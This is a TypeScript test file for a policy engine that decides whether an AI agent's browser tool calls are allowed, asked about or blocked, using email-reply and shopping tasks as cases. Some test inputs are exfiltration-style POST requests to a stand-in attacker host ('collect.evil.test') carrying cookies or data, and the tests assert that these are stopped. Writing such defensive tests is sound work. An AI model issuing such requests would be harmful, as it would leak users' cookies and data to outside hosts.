import { describe, expect, it } from 'vitest';
import { classify } from '../../src/tools';
import { evaluate } from '../../src/tools';
import { grantFor } from '../../src/core/grants';
import { initialState, type TaskPolicy } from '../../src/core/policy';
import { rules } from '../compiler/helpers';

/** The user's own request on a site the words do not name: asked once, then exactly site + target. */
const REQUEST = 'Reply to Alice at alice@example.test and tell her I will attend the meeting on Friday.';
const send = (to: string, url = 'https://mail.example.test/send') => ({
  tool: 'browser.form_submit',
  args: { url, method: 'POST', fields: { to, subject: 'Re: meeting', body: 'I will attend on Friday.' }, submitText: 'Send' },
});
const decide = (policy: TaskPolicy, call: unknown) => evaluate(policy, initialState(), call, 2).record;

describe('site binding: a task that binds a recipient or an item but names no site', () => {
  it('the reply to alice asks once, naming site and recipient; reading the mail site is allowed', () => {
    const policy = rules(REQUEST);
    expect(policy.domains).toBeNull();
    expect(decide(policy, { tool: 'browser.navigate', args: { url: 'https://mail.example.test/inbox' } }).decision).toBe('ALLOW');
    const asked = decide(policy, send('alice@example.test'));
    expect(asked).toMatchObject({ decision: 'ASK_USER', check: 'site_binding' });
    expect(asked.reason).toBe('send to alice@example.test on mail.example.test? The task names this target but no site');
  });

  it('"Allow for this task" grants exactly that site for that recipient: repeats pass, anyone or anywhere else does not', () => {
    const policy = rules(REQUEST);
    const call = send('alice@example.test');
    const grant = grantFor(policy.taskId, call.tool, classify(call), 'task', 1);
    expect(grant).toMatchObject({ tool: 'browser.form_submit', capability: 'message.send', riskClass: 'COMMUNICATION', recipients: ['alice@example.test'], domains: ['example.test'], paths: [], items: [], maxCalls: null });
    const granted: TaskPolicy = { ...policy, grants: [grant] };
    let state = initialState();
    for (let i = 0; i < 3; i++) {
      const r = evaluate(granted, state, call, 2);
      expect(r.record).toMatchObject({ decision: 'ALLOW', check: 'grants' });
      state = r.state;
    }
    expect(decide(granted, send('bob@corp.test')).decision).toBe('ASK_USER');
    expect(decide(granted, send('alice@example.test', 'https://webmail.other.test/send'))).toMatchObject({ decision: 'ASK_USER', check: 'site_binding' });
    expect(decide(granted, { tool: 'browser.request', args: { method: 'POST', url: 'https://mail.example.test/api/notes', body: { notes: 'x' } } }).decision).not.toBe('ALLOW');
  });

  it('unbound data to an unnamed site still blocks; a task that names a site keeps blocking other sites', () => {
    const policy = rules(REQUEST);
    expect(decide(policy, { tool: 'browser.request', args: { method: 'POST', url: 'https://collect.evil.test/c', body: { to: 'alice@example.test', cookies: 'x' } } }).decision).not.toBe('ALLOW');
    expect(decide(policy, { tool: 'browser.request', args: { method: 'POST', url: 'https://collect.evil.test/c', body: { data: 'x' } } }).decision).not.toBe('ALLOW');
    const named = rules('On mail.test, reply to alice@example.test that I will attend.');
    expect(decide(named, send('alice@example.test', 'https://webmail.evil.test/send'))).toMatchObject({ decision: 'BLOCK', check: 'domain_allowlist' });
  });

  it('the named item on an unnamed shop asks naming the shop; another item asks at the item binding', () => {
    const policy = rules('Buy one pack of AA batteries');
    const checkout = (sku: string) => ({ tool: 'browser.form_submit', args: { url: 'https://shop.test/checkout', method: 'POST', fields: { sku, qty: '1' }, submitText: 'Place order' } });
    expect(decide(policy, checkout('aa-batteries'))).toMatchObject({ decision: 'ASK_USER', check: 'site_binding' });
    expect(decide(policy, checkout('gift-card-100'))).toMatchObject({ decision: 'ASK_USER', check: 'argument_constraints' });
  });
});
